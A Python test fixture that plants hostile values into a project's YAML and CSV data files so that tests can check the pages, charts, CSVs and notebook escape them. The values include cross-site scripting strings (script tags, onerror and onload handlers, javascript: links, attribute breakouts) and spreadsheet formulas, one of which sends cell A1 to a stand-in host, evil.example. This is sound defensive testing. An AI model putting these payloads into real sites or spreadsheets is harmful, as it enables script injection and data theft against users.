"""A copy of the project whose data/ carries markup, script and spreadsheet formulas in every field
a stranger could edit and a page shows: the attack of issue 10, planted for the tests to build.

Each planted value starts with a marker ("Hostile 7:") so a test can find where it landed.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import yaml

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "<details open ontoggle=alert(3)>x</details>",
    "[go](javascript:alert(4))",
    '{: onclick="alert(5)" }',
    '"><svg onload=alert(6)>',
    '=HYPERLINK("https://evil.example","x")',
    "$\\alpha$ *a* _b_ `c` | d \\ e",
    "' onmouseover='alert(9)",
    '<a href="javascript:alert(10)">x</a>',
)
# A valid address whose quote and parenthesis would end an attribute or a Markdown link if not escaped.
# (One with "[" broke out of its link before issue 10; the loader now refuses it: test_hostile_data.py.)
BREAKOUT_URL = "https://example.org/x)'onmouseover=alert(11)"

# A label that is nothing but a spreadsheet formula: a CSV cell must never start with it.
FORMULA_LABEL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'

# (file, entry id, field): every free-text field that reaches a page, a tooltip, a chart, a CSV or the notebook.
TARGETS = (
    ("inputs/power.yaml", "h100_tdp_w", "label"),
    ("inputs/power.yaml", "h100_tdp_w", "quote"),
    ("inputs/power.yaml", "h100_tdp_w", "note"),
    ("inputs/power.yaml", "h100_host_power_per_gpu_w", "label"),  # the notebook prints it
    ("inputs/power.yaml", "h100_host_power_per_gpu_w", "quote"),
    ("inputs/power.yaml", "dgx_h100_typical_kw", "basis"),
    ("inputs/capex_by_year.csv", "capex_ppe_2024_musd", "label"),  # a chart's table and CSV
    ("sources.yaml", "meta-llama31-model-card", "title"),
    ("sources.yaml", "meta-llama31-model-card", "publisher"),
    ("sources.yaml", "meta-llama31-model-card", "note"),
    ("sources.yaml", "meta-llama31-model-card", "read_in.host"),  # the copy the text was checked in
    ("statements.yaml", "li_genai_not_meaningful", "quote"),
    ("statements.yaml", "li_genai_not_meaningful", "speaker"),
    ("statements.yaml", "li_genai_not_meaningful", "translation"),
    ("claims.yaml", "cluster_power", "words"),
    ("claims.yaml", "cluster_power", "why"),
    ("articles.yaml", "seed-000", "name"),
    ("articles.yaml", "seed-000", "outlet"),
    ("articles.yaml", "seed-000", "note"),
    ("glossary.yaml", "FLOP", "meaning"),
)


def planted(index: int) -> str:
    return f"Hostile {index}: {PAYLOADS[index % len(PAYLOADS)]}"


def plant(project: Path) -> dict[tuple[str, str, str], str]:
    """Writes a payload into each target field of ``project``'s data/; returns what went where."""
    placed = {}
    for index, (file, entry, field) in enumerate(TARGETS):
        value = planted(index)
        _set(project / "data" / file, entry, field, value)
        placed[(file, entry, field)] = value
    _set(project / "data/sources.yaml", "meta-llama31-model-card", "url", BREAKOUT_URL)
    _set(project / "data/sources.yaml", "meta-llama31-model-card", "read_in.url", BREAKOUT_URL + "/copy")
    _set(project / "data/inputs/money.yaml", "capex_2024_actual_busd", "label", FORMULA_LABEL)  # a chart's row
    return placed


def _set(path: Path, entry: str, field: str, value: str) -> None:
    if path.suffix == ".csv":
        rows = list(csv.DictReader(io.StringIO(path.read_text())))
        row = next(r for r in rows if r["id"] == entry)
        row[field] = value
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        path.write_text(out.getvalue())
        return
    records = yaml.safe_load(path.read_text())
    key = "term" if path.name == "glossary.yaml" else "id"
    record = next(r for r in records if r.get(key) == entry)
    parent, _, child = field.rpartition(".")
    if parent:  # a field of a nested record, such as a source's read_in.host
        record = record.setdefault(parent, {"url": "https://example.org/copy", "host": "example.org"})
    record[child] = value
    path.write_text(yaml.safe_dump(records, allow_unicode=True, sort_keys=False))
